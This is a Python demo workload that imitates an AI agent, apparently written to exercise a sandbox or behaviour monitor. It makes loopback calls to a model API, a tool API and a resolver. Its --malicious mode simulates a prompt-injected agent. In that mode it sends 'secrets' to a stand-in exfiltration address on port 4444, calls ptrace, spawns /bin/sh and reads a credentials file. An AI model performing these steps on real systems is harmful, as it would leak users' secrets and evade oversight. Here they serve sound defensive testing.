"""The built-in demo workload: a tiny "research agent" that behaves like an AI agent does.

Each run picks tools for its task at run time, the way an agent's model would:
- it calls the model API (TCP, 127.0.0.1:MODEL_PORT) and a tool API (TCP, 127.0.0.1:TOOL_PORT),
- resolves a name through a local resolver (one UDP datagram to 127.0.0.1:DNS_PORT),
- runs a helper binary for some tools (``/bin/ls``, ``/bin/cat`` or ``/bin/date``),
- reads and writes a scratch file.

``--task`` varies which tools and files are used, within the same envelope. ``--malicious``
adds what a prompt-injected agent might do: an exfiltration connect to an address outside the
observed envelope (127.0.1.66, still loopback), a syscall the agent never made (``ptrace``), a
shell it never spawned (``/bin/sh``) and, with ``--credentials PATH``, a read of a credentials
file it never read. Only loopback addresses are ever contacted.
"""

from __future__ import annotations

import argparse
import ctypes
import errno
import os
import socket
import subprocess
import sys
import tempfile

# Loopback ports of the model API, the tool API, the resolver and the exfiltration listener;
# ENVELOPE_DEMO_PORTS=model,tool,dns,exfil moves them (a test that runs beside other services).
MODEL_PORT, TOOL_PORT, DNS_PORT, EXFIL_PORT = (
    int(x) for x in os.environ.get("ENVELOPE_DEMO_PORTS", "18080,18081,18053,4444").split(","))
EXFIL = ("127.0.1.66", EXFIL_PORT)
HELPERS = {0: ["/bin/ls", "/tmp"], 1: ["/bin/cat", "/etc/hostname"], 2: ["/bin/date", "-u"]}


def call(port: int, payload: bytes) -> str:
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.sendall(payload)
        return s.recv(256).decode(errors="replace")


def resolve(name: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(name.encode(), ("127.0.0.1", DNS_PORT))
        return s.recv(256).decode(errors="replace")


def attempt(what: str, fn) -> bool:
    """Run ``fn``; print its outcome; True when it succeeded."""
    try:
        fn()
    except OSError as e:
        print(f"{what}: {errno.errorcode.get(e.errno, e.errno)}")
        return False
    print(f"{what}: ok")
    return True


def run(task: int, malicious: bool, credentials: str | None = None) -> int:
    answer = call(MODEL_PORT, f"plan task {task}".encode())
    print(f"model: {answer}")
    print(f"resolved: {resolve('tools.internal')}")
    for step in range(len(HELPERS)):
        tool = (task + step) % len(HELPERS)
        out = subprocess.run(HELPERS[tool], capture_output=True, text=True, check=False)
        print(f"tool {HELPERS[tool][0]} -> {out.returncode}")
        print(f"tool api: {call(TOOL_PORT, f'result {tool}'.encode())}")
    with tempfile.NamedTemporaryFile("w+", prefix="agent-notes-") as notes:
        notes.write(f"task {task} done\n")
        notes.flush()
        os.fsync(notes.fileno())
    status = 0
    if malicious:
        try:
            with socket.create_connection(EXFIL, timeout=2) as s:
                s.sendall(b"secrets")
            print("exfiltration connect: succeeded")
        except OSError as e:
            print(f"exfiltration connect: {errno.errorcode.get(e.errno, e.errno)}")
            status = 3
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.restype = ctypes.c_long
        rc = libc.ptrace(0, 0, None, None)  # PTRACE_TRACEME
        err = ctypes.get_errno()
        print(f"ptrace: {'ok' if rc == 0 else errno.errorcode.get(err, err)}")
        status = status if rc == 0 else 3
        if not attempt("spawn /bin/sh", lambda: subprocess.run(["/bin/sh", "-c", "id"], capture_output=True)):
            status = 3
        if credentials and not attempt("read credentials", lambda: open(credentials, encoding="utf-8").read()):
            status = 3
    return status


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--task", type=int, default=0)
    p.add_argument("--malicious", action="store_true")
    p.add_argument("--credentials", metavar="PATH", help="with --malicious: a credentials file to read")
    args = p.parse_args(argv)
    return run(args.task, args.malicious, args.credentials)


if __name__ == "__main__":
    sys.exit(main())
